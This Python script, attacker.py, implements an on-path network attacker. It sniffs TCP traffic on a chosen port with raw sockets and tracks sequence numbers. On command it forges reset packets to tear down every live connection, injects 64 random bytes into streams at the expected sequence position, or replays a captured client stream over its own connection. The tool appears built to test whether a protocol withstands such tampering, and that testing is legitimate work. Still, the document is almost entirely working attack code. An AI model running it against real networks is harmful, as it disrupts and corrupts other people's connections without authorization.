"""attacker.py INTERFACE PORT: somebody on the link between two nodes, who sees every packet of TCP port PORT and sends what he likes.

Reads a command a line, and answers each with one line:
  reset           a reset to both ends of every connection seen alive, with the sequence numbers that they expect
  inject          64 bytes of his own into every connection seen alive, towards PORT, where the next bytes are expected
  replay ADDRESS  what the oldest connection sent towards PORT, again, over a connection of his own; says how many bytes came back, and which end
"""
import os
import socket
import struct
import sys
import threading

PORT = int(sys.argv[2])
FIN, RST, PSH, ACK = 1, 4, 8, 16
flows, lock = {}, threading.Lock()


class Flow:
    """One direction of a connection."""

    def __init__(self):
        self.next, self.data, self.over = None, b"", False


def watch():
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((sys.argv[1], 0))
    print("watching", flush=True)
    while True:
        frame = tap.recv(65600)
        if frame[12:14] != b"\x08\x00" or frame[23] != 6:
            continue
        packet = frame[14:14 + struct.unpack("!H", frame[16:18])[0]]
        tcp = packet[(packet[0] & 15) * 4:]
        source, target, seq, ack = struct.unpack("!HHII", tcp[:12])
        if PORT not in (source, target):
            continue
        key = (packet[12:16], source, packet[16:20], target)
        payload = tcp[(tcp[12] >> 4) * 4:]
        with lock:
            flow = flows.setdefault(key, Flow())
            back = flows.setdefault((key[2], key[3], key[0], key[1]), Flow())
            if tcp[13] & ACK:
                back.next = ack
            if payload and flow.next is not None and seq - flow.next & 0xFFFFFFFF < 0x80000000:
                flow.data += payload
            if tcp[13] & (FIN | RST):
                flow.over = back.over = True


def checksum(data):
    total = sum(struct.unpack(f"!{len(data + data[:len(data) % 2]) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(key, flags, payload=b""):
    source, source_port, target, target_port = key
    back = flows[(target, target_port, source, source_port)]
    head = struct.pack("!HHIIBBHHH", source_port, target_port, flows[key].next, back.next or 0, 5 << 4, flags, 1024, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(head) + len(payload))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head + payload)) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head) + len(payload), 0, 0, 64, 6, 0, source, target)
    raw.sendto(ip + head + payload, (socket.inet_ntoa(target), 0))


def alive(towards_port):
    return [k for k, f in flows.items() if not f.over and f.next is not None and (k[3] == PORT or not towards_port)]


def replay(address):
    with lock:
        said = next(f.data for k, f in flows.items() if k[3] == PORT and f.data)
    heard = b""
    with socket.create_connection((address, PORT), timeout=10) as connection:
        connection.settimeout(30)
        try:
            connection.sendall(said)
            connection.shutdown(socket.SHUT_WR)
            while some := connection.recv(65536):
                heard += some
            return f"sent {len(said)} heard {len(heard)} end"
        except ConnectionError:
            return f"sent {len(said)} heard {len(heard)} reset"


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
threading.Thread(target=watch, daemon=True).start()
for line in sys.stdin:
    word, *rest = line.split()
    if word == "replay":
        print(replay(*rest), flush=True)
        continue
    with lock:
        keys = alive(towards_port=word == "inject")
        for key in keys:
            send(key, *((RST,) if word == "reset" else (PSH | ACK, os.urandom(64))))
    print(f"sent {len(keys)}", flush=True)
